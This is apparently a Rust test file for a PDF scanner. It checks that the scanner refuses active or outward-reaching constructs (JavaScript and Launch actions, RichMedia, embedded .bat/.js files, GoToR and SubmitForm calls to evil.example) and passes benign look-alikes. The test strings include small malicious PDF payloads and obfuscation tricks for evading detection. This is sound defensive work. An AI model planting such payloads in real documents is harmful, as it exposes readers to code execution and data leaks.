use super::*;

/// In one piece; byte by byte it must be the same.
fn refusal(text: &str) -> Option<Refusal> {
    let whole = Names::default().refusal(text.as_bytes());
    let mut names = Names::default();
    assert_eq!(text.bytes().find_map(|byte| names.refusal(&[byte])), whole, "{text}");
    whole
}

#[test]
fn actions_that_run_something_are_refused_however_they_are_written() {
    for text in [
        "<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>",
        "<</AA<</O<</Type /Action /S /JavaScript /JS 9 0 R>>>>>>",
        "<</S\r\n\t/JavaScript>>",
        "<</S % a comment\n% and another /S\r/JavaScript>>",
        "<</S/J#61va#53cript>>",
        "<</#53/#4a#61#76#61#53#63#72#69#70#74>>",
        "<</T(100%)/S\n/JavaScript>>",
        // The reader goes to the place that the table says, into a comment, a string or a stream.
        "% 5 0 obj<</S/JavaScript>>\n",
        "(5 0 obj<</S/JavaScript>>)",
        "stream\n\u{1}((\u{2} 5 0 obj<</S/JavaScript>>\nendstream",
        "<</S 7 0 R/JS(x)>>endobj 7 0 obj/JavaScript\nendobj",
        "5 0 obj<</S/Rendition/OP 0/JS(x)>>",
        "5 0 obj<</JS(x)/S /Rendition>>",
        "<</JS(var obj = 1; app.alert(1))/S/Rendition/OP 0>>",
        "5 0 obj<</S 7 0 R/JS(x)>>endobj 7 0 obj/Rendition endobj",
        "<</S/Launch/F(cmd.exe)>>",
        "7 0 obj/Launch\n",
        "<</S/RichMediaExecute>>",
        "<</Subtype/RichMedia>>",
        "<</OnInstantiate 5 0 R>>",
        // A bracket in a comment or in a stream opens no string, a word in one begins none that ends.
        "% ((\n<</S/JavaScript>>",
        "stream ( endstream endobj 5 0 obj<</S/JavaScript>>",
        "5 0 obj<</A(\\)( ) (\\\\))/S/JavaScript>>",
        "5 0 obj<</A % obj (\n/S/JavaScript>>",
        "5 0 obj<</A( obj \\( % )/S/JavaScript>>",
        "5 00000000000000000000000000000000000000000000000000000000obj/JavaScript ",
        // Programs, and addresses that are scripts.
        "<</EF<</F 9 0 R>>/F(x)/UF(x.bat)>>",
        "<</UF 6 0 R/EF 5 0 R>>endobj 6 0 obj<FEFF0078002E006A0073>endobj",
        "6 0 obj(x.js)endobj 5 0 obj<</EF 5 0 R/UF 6 0 R>>endobj",
        // By way of another reference, behind a comment, or of an object whose number is written as some readers alone take it.
        "<</UF 6 0 R/EF 5 0 R>>endobj 6 0 obj 7 0 R endobj 7 0 obj(x.js)endobj",
        "<</UF % 9\n6 0 R/EF 5 0 R>>endobj 6 % 9\n0 obj(x.js)endobj",
        "<</UF 6 0 R/EF 5 0 R>>endobj 6 0obj(x.js)endobj",
        "<</UF 6 0 R/EF 5 0 R>>endobj +6 0 obj(x.js)endobj",
        "<</UF 6 0R/EF 5 0 R>>endobj 6 0 obj(x.js)endobj",
        "<</S/URI/URI(javascript:alert\\(1\\))>>",
    ] {
        assert_eq!(refusal(text), Some(Refusal::Active), "{text}");
    }
    let far = format!("<</S{}/JavaScript>>", " ".repeat(200_000));
    assert_eq!(Names::default().refusal(far.as_bytes()), Some(Refusal::Active));
    for text in [
        "<</S/GoToR/F(\\\\\\\\evil.example\\\\a.pdf)>>",
        "5 0 obj<</S/GoToE/F 6 0 R>>endobj 6 0 obj(//evil.example/a.pdf)endobj",
        "<</S/SubmitForm/F<</FS/URL/F(file://evil.example/a)>>>>",
        "<</S/ImportData/F<5C5C6576696C>>>",
        "<</S/URI/URI(file://evil.example/a)>>",
    ] {
        assert_eq!(refusal(text), Some(Refusal::Share), "{text}");
    }
    for text in
        ["trailer<</Size 4/Encrypt 9 0 R>>", "(trailer<</Size 4/#45ncrypt 9 0 R>>)", "5 0 obj<</Type/XRef/Encrypt %\n<</V 4>>>>"]
    {
        assert_eq!(refusal(text), Some(Refusal::Locked), "{text}");
    }
}

#[test]
fn what_only_speaks_of_scripts_or_turns_a_page_is_not() {
    for text in [
        "<</OpenAction<</S/GoTo/D[3 0 R/Fit]>>>>",
        "<</OpenAction[3 0 R/XYZ null null 0]>>",
        "<</S/URI/URI(https://example.com/docs/JavaScript/Guide)>>",
        "<</Title(HTML/CSS/JavaScript)/Keywords(/JavaScript /JS )>>",
        "<</S/Transparency/Subtype/JavaScripted>>",
        "<</S/JavaScriptAndMuchMoreThanThatWhichIsLonger>>",
        "stream\n\u{7f}/JS(\u{1}/JS<\u{2}\nendstream",
        "<</EncryptMetadata false/Launcher 1>>",
        "<</S/URI/URI(https://example.com/Launch)>>",
        "<</S/URI/URI(https://example.com/S/Launch)>>",
        "<</Title(Product/Launch plan \\(2027\\) /S/JavaScript)/Dest/Launch>>",
        "<</S/URI/URI(https://example.com/docs/Encrypt)/Title(Sign/Encrypt 9 0 R)/A(/RichMedia /OnInstantiate 1 0 R)>>",
        "<</Title 6 0 R>>endobj 6 0 obj(index.html)endobj",
        "<</S/GoToR/F(part-2.pdf)>>",
        // Titles that end like the name of a program, where no key of a file refers to them.
        "<</S/GoToR/F(part-2.pdf)>>endobj 6 0 obj(Node.js)endobj 7 0 obj<</Title 6 0 R>>endobj",
        "<</S/GoToR/F 8 0 R>>endobj 6 0 obj(Building R.app)endobj 7 0 obj<</Title 6 0 R>>endobj",
        "6 0 obj(Our shop example.com)endobj<</F(factur-x.xml)/EF<</F 9 0 R>>/UF(factur-x.xml)>>endobj 10 0 obj 5 endobj",
        "<</S/SubmitForm/F<</FS/URL/F(https://example.com/form.html)>>>>",
        "<</F(factur-x.xml)/UF(factur-x.xml)/EF<</F 9 0 R>>>>",
        "<</Title(\\\\\\\\server\\\\plan.doc)/S/URI/URI(file:///C:/plan.doc)>>",
    ] {
        assert_eq!(refusal(text), None, "{text}");
    }
}
